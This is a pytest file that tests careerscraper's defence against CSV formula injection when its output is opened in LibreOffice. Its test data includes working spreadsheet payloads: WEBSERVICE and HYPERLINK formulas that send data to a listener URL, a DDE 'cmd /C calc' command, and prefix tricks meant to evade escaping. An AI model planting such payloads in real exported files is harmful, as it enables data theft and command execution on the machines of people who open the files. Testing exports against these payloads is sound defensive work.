"""CSV files are safe in a spreadsheet: LibreOffice opens them, nothing runs, nothing but the leading ``'`` is changed."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import Run
from markups import page, plain

from careerscraper.formats import FOLDER_TABLES
from careerscraper.releases.sinks import open_sink
from careerscraper.schema import SCHEMAS
from releases.listener import Listener, listening
from releases.soffice import came_back, formulas, open_and_save, read_csv

#: Separators, quote, encoding, first line, columns, language, "quoted field as text", "detect special numbers".
UTF_8 = "44,34,76"
DIALOG = "44/59/9,34,76,1,,0,false,false"
AS_TEXT = "44,34,76,1,,0,true"
#: Import options: none, the encoding only (then "special numbers" are detected), what the dialog offers. Beside each, how
#: texts come back that LibreOffice takes for numbers: they get no ``'``, for they do no harm. Only with the option "format
#: quoted field as text" all stays as it is.
IMPORTS = {
    "": {"+1": "1", "007": "7", "1e5": "100000"},
    UTF_8: {"+1": "1", "007": "7", "1e5": "1.00E+05", "-8%": "-8.00%", "$1,234": "$1,234.00"},
    DIALOG: {"+1": "1", "007": "7", "1e5": "100000"},
}
#: A digest may look like a number by chance, as 1234e567 does.
DIGESTS = frozenset({"observation_id", "parser_version"})
#: Texts as no page gives them, for blanks are folded: what may stand before a `=`, what may end a cell early, what only
#: looks like a `=`.
BEFORE = ["", *"\t\r\n \xa0\ufeff\u200b\0'\"", '","', '";', "x\n", "x\t", "x,", "x;", '"\n']
RAW = [f"{before}=1+1" for before in BEFORE] + ["＝1+1", "＋1+1", "{=1+1}", "+A1", "-A1", "@SUM(1)", "-", "-8%", "+1"]


def hostile(leak: str) -> list[list[str]]:
    """Return a comparison whose names, labels and cells a spreadsheet might run."""
    return [
        ["", "=Cook(1)", "@Baker"],
        ["Average salary", "=1+1", "$1,234"],
        ["Job growth rate", "-8%", "-"],
        ["Highest paying state", f'=WEBSERVICE("{leak}?a=1")', "@x"],
        ["Best paying company", "-1+cmd|' /C calc'!A0", "Crumb’s “Crust”, Café"],
        ["Most common major", "@SUM(1)", 'Bread, "rolls"\nand\n=1+1'],
        ["+Shoe size", "+1", "007"],
        ["=A1", f'=HYPERLINK("{leak}","x")', "1e5"],
        ["Hourly rate", "\t=1+1", "\r=1+1"],
    ]


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def tables(run: Run, listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with all tables of a hostile page, as the installed command writes them."""
    folder = tmp_path_factory.mktemp("hostile")
    table = plain(hostile(listener.url)).replace("\t", "&#9;").replace("\r", "&#13;")
    (folder / "page.html").write_text(page("=1+1", table))
    for format_ in ("csv", "parquet"):
        done = run("careerscraper", "extract", folder / "page.html", "--format", format_, "-o", folder / format_)
        assert done.returncode == 0, done.stderr
    return folder


def texts(rows: list[dict[str, str]], table: str, left_out: frozenset[str] = frozenset()) -> list[str]:
    """Return what stands in the string columns of ``table``."""
    names = [field.name for field in SCHEMAS[table] if pa.types.is_string(field.type) and field.name not in left_out]
    return [row[name] for row in rows for name in names]


def before_and_after(sheet: Path, left_out: frozenset[str] = frozenset()) -> list[tuple[str, str]]:
    """Return each text of the CSV file that LibreOffice saved as ``sheet``, and how it came back."""
    sides = (
        texts(rows, sheet.name.split(".")[0], left_out) for rows in (read_csv(sheet.with_suffix("")), came_back(sheet))
    )
    return list(zip(*sides, strict=True))


@pytest.mark.parametrize("options", IMPORTS)
def test_nothing_runs_and_only_numbers_change(listener: Listener, tables: Path, tmp_path: Path, options: str) -> None:
    changed = {}
    for sheet in open_and_save(shutil.copytree(tables / "csv", tmp_path / "csv"), options):
        changed |= {old: new for old, new in before_and_after(sheet, DIGESTS) if old != new}
        assert formulas(sheet) == []
    if not options:  # then the encoding is guessed, and not every version guesses UTF-8
        changed = {old: new for old, new in changed.items() if old.isascii()}
    assert (changed, listener.asked) == (IMPORTS[options], [])


def test_with_quoted_fields_as_text_nothing_changes(tables: Path, tmp_path: Path) -> None:
    for sheet in open_and_save(shutil.copytree(tables / "csv", tmp_path / "csv"), AS_TEXT):
        assert formulas(sheet) == []
        assert came_back(sheet) == read_csv(sheet.with_suffix("")) != []


def test_parquet_has_the_texts_without_the_mark(listener: Listener, tables: Path) -> None:
    marked = set()
    for table in FOLDER_TABLES:
        exact = texts(pq.read_table(tables / "parquet" / f"{table}.parquet").to_pylist(), table)
        cells = texts(read_csv(tables / "csv" / f"{table}.csv"), table)
        differing = {(text or "", cell) for text, cell in zip(exact, cells, strict=True) if (text or "") != cell}
        assert all(cell == f"'{text}" for text, cell in differing)
        marked |= {text for text, _ in differing}
    written = {" ".join(cell.split()) for row in hostile(listener.url) for cell in row}
    assert marked == {text for text in written if text.startswith(("=", "+", "-", "@"))} - {"-", "+1", "-8%"}


def test_without_the_mark_they_run(tables: Path, tmp_path: Path, listener: Listener) -> None:
    """What the other tests do not find is there to be found."""
    for path in (tables / "csv").iterdir():
        (tmp_path / path.name).write_text(re.sub("(?m)(^|,)\"'", r'\1"', path.read_text()))
    found = [formulas(sheet) for sheet in open_and_save(tmp_path, UTF_8)]
    asked = listener.asked.copy()
    listener.asked.clear()  # the other tests want it empty
    assert all(any("WEBSERVICE" in formula for formula in some) for some in found), found
    assert any(line.startswith("GET /leak?a=1 ") for line in asked)


@pytest.mark.parametrize("options", [DIALOG, AS_TEXT])
def test_no_column_of_any_table_runs(tmp_path: Path, options: str) -> None:
    for table, schema in SCHEMAS.items():
        columns = [pa.array(RAW) if pa.types.is_string(f.type) else pa.nulls(len(RAW), f.type) for f in schema]
        with (tmp_path / f"{table}.csv").open("wb") as file:
            sink = open_sink(file, table, "csv")
            sink.write(pa.RecordBatch.from_arrays(columns, schema=schema))
            sink.close()
    unheld = str.maketrans({"\t": None, "\0": None, "\r": "\n"})  # its cells cannot hold these in every format
    for sheet in open_and_save(tmp_path, options):
        assert formulas(sheet) == []
        pairs = [(old.translate(unheld), new.translate(unheld)) for old, new in before_and_after(sheet)]
        assert options == DIALOG or [old for old, _ in pairs] == [new for _, new in pairs]
